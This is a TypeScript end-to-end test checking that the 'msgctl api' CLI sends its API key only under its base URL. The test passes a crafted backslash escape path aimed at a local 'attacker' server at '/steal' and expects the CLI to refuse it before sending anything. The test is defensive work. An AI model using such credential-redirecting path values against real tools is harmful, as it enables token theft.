/**
 * docs/security.md, promises 2 and 3, through the built binary: one escape of
 * `msgctl api` refused before anything is sent, an ordinary path sent under the
 * base URL, and loopback reached directly with a proxy set. Every escape form
 * and address is tested in-process (test/cli/hostile-network.test.ts).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { isolatedEnv, msgctl } from '../helpers/cli.js';

interface Capture {
  seen: { url: string; authorization: string | undefined }[];
  port: number;
  server: Server;
}

async function capture(): Promise<Capture> {
  const seen: Capture['seen'] = [];
  const server = createServer((req, res) => {
    seen.push({ url: req.url!, authorization: req.headers.authorization });
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"org_capture","name":"Capture"}');
  });
  server.on('connect', (req, socket) => {
    seen.push({ url: req.url!, authorization: req.headers['proxy-authorization'] });
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return { seen, port: (server.address() as AddressInfo).port, server };
}

const KEY = 'sk_test_hostile_network_e2e_0123456789';
let api: Capture;
let attacker: Capture;
let proxy: Capture;
beforeAll(async () => {
  [api, attacker, proxy] = await Promise.all([capture(), capture(), capture()]);
});
afterAll(() => {
  for (const c of [api, attacker, proxy]) c?.server.close();
});

const env = () =>
  isolatedEnv({
    MSGCTL_BASE_URL: `http://127.0.0.1:${api.port}/v1`,
    MSGCTL_API_KEY: KEY,
    HTTP_PROXY: `http://127.0.0.1:${proxy.port}`,
    HTTPS_PROXY: `http://127.0.0.1:${proxy.port}`,
  });

describe('the built msgctl sends the credential only under the base URL, never through a proxy to loopback', () => {
  it('refuses an escape before any request, and sends an ordinary path directly', async () => {
    const escape = await msgctl(['api', 'GET', `/\\\\127.0.0.1:${attacker.port}/steal`], { env: env() });
    expect(escape.exitCode, escape.stderr).toBe(2);
    expect(escape.stderr).not.toContain(KEY);

    const ordinary = await msgctl(['api', 'GET', '/organization'], { env: env() });
    expect(ordinary.exitCode, ordinary.stderr).toBe(0);
    expect(api.seen).toEqual([{ url: '/v1/organization', authorization: `Bearer ${KEY}` }]);
    expect(attacker.seen).toEqual([]);
    expect(proxy.seen).toEqual([]);
  });
});
